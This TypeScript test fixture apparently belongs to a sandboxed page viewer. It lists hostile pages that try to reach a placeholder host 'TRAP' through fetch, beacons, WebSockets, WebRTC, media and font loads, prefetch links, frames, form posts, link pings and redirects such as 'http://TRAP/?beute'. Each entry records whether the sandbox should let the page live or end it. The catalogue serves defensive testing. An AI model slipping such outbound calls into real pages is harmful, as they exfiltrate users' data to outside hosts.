import type { HostilePage } from '../hostile-page.ts';

/** Whatever makes a browser ask somebody. */
export const network: readonly HostilePage[] = [
  {
    title: 'asks by script',
    script: `
      fetch('http://TRAP/').then(() => got('fetch'), (error) => console.log(error.message));
      fetch('/api/user').then(() => got('fetch'), () => {});
      const request = new XMLHttpRequest();
      request.onload = () => got('XMLHttpRequest');
      attempt(() => { request.open('GET', 'http://TRAP/'); request.send() });
      attempt(() => { if (navigator.sendBeacon('http://TRAP/', 'x')) console.log('beacon') });
      attempt(() => { new WebSocket('ws://TRAP/').onopen = () => got('WebSocket') });
      attempt(() => { new EventSource('http://TRAP/').onmessage = () => got('EventSource') });
      attempt(() => { new WebTransport('https://TRAP/') });
      import('http://TRAP/x.js').then(() => got('import'), () => {});`,
    held: 'lives',
    told: /fetch findet „http:.*das Netz ist zu/,
  },
  {
    title: 'asks by pictures, sounds and fonts',
    html: `
      <style>
        @import 'http://TRAP/import.css';
        @font-face { font-family: Weg; src: url(http://TRAP/font.woff2) }
        body { background: url(http://TRAP/back.png); font-family: Weg; cursor: url(http://TRAP/cursor.png), auto }
      </style>
      <img src="http://TRAP/a.png" srcset="http://TRAP/b.png 2x"><picture><source srcset="http://TRAP/c.png"><img></picture>
      <video src="http://TRAP/a.mp4" poster="http://TRAP/p.png" autoplay></video><audio src="http://TRAP/a.mp3" autoplay></audio>
      <svg><image href="http://TRAP/s.png"></image><use href="http://TRAP/u.svg#x"></use></svg>
      <input type="image" src="http://TRAP/i.png"><table background="http://TRAP/t.png"></table>
      <script>new Image().src = 'http://TRAP/n.png'; new Audio('http://TRAP/n.mp3').play().catch(() => {})</script>`,
    held: 'lives',
    told: /Nichts kommt hier von außen/,
  },
  {
    title: 'asks by links in its head',
    html: `
      <link rel="stylesheet" href="http://TRAP/a.css"><link rel="icon" href="http://TRAP/i.ico">
      <link rel="prefetch" href="http://TRAP/p"><link rel="preload" as="script" href="http://TRAP/l.js">
      <link rel="modulepreload" href="http://TRAP/m.js"><link rel="manifest" href="http://TRAP/m.json">
      <link rel="prerender" href="http://TRAP/r"><base href="http://TRAP/">
      <script type="speculationrules">{ "prefetch": [{ "urls": ["http://TRAP/s"] }] }</script>
      <script src="http://TRAP/x.js"></script><img src="relativ.png">`,
    held: 'lives',
  },
  {
    title: 'asks by frames and objects',
    html: `
      <iframe src="http://TRAP/f"></iframe><object data="http://TRAP/o"></object><embed src="http://TRAP/e">
      <iframe srcdoc="<img src='http://TRAP/d.png'>"></iframe><portal src="http://TRAP/p"></portal>`,
    held: 'lives',
  },
  {
    title: 'asks by WebRTC',
    script: `
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:TRAP' }] });
      peer.createDataChannel('x');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => got('WebRTC'));`,
    held: 'lives',
    told: /RTCPeerConnection/,
  },
  {
    title: 'sends forms',
    html: `
      <form id="one" action="http://TRAP/" method="post"><input name="a" value="b"><button formaction="http://TRAP/2">x</button></form>
      <form id="two" action="http://TRAP/" target="_blank"></form>
      <script>one.querySelector('button').click(); one.submit(); two.submit()</script>`,
    held: 'lives',
    told: /Dieses Formular/,
  },
  {
    title: 'sends pings with its links',
    html: '<a id="link" href="#hier" ping="http://TRAP/">hier</a><script>link.click()</script>',
    held: 'lives',
  },
  {
    title: 'goes away by itself',
    script: "location.href = 'http://TRAP/?beute'",
    held: 'ends',
    told: /wollte woandershin/,
  },
  {
    title: 'goes away by its head',
    html: '<meta http-equiv="refresh" content="0; url=http://TRAP/">weg',
    held: 'ends',
    told: /wollte woandershin/,
  },
  {
    title: 'goes to a call of the house',
    script: "location.replace('/api/user')",
    held: 'ends',
    told: /wollte woandershin/,
  },
  {
    title: 'becomes a page of its own making',
    script:
      "location = URL.createObjectURL(new Blob(['<script>parent.postMessage(1)<\\/script>'], { type: 'text/html' }))",
    held: 'ends',
    told: /wollte woandershin/,
  },
];
